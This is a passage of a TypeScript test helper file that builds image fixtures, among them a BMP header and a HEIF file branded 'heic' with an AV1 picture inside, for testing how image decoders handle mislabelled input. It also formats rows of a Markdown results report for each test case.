  header.writeUInt32LE(40, 14);
  header.writeInt32LE(width, 18);
  header.writeInt32LE(height, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  header.writeUInt32LE(pixels.length, 34);
  return Buffer.concat([header, pixels]);
}

/**
 * A HEIF container with the `heic` brand but an AV1 picture inside (sharp's AVIF with its brand
 * renamed): HEIC by its `ftyp`, undecodable by an HEVC decoder.
 */
async function heicContainer(): Promise<Buffer> {
  const avif = Buffer.from(await sharp(await photoJpegOf(64, 48, 13)).avif({ effort: 0 }).toBuffer());
  if (avif.toString("latin1", 4, 8) !== "ftyp") throw new Error("unexpected AVIF layout");
  avif.write("heic", 8, "latin1");
  return avif;
}

/** One row of the report per case, as `--report` prints it. */
export function reportRow(testCase: HostileCase, seen: { outcome: string; message?: string | undefined }): string {
  const cell = (text: string) => text.replace(/\|/g, "\\|").replace(/</g, "&lt;").replace(/\n/g, " ");
  return `| \`${testCase.id}\` | ${cell(testCase.title)} | ${seen.outcome} | ${seen.message ? cell(seen.message) : "—"} | ${cell(testCase.why)} |`;
}
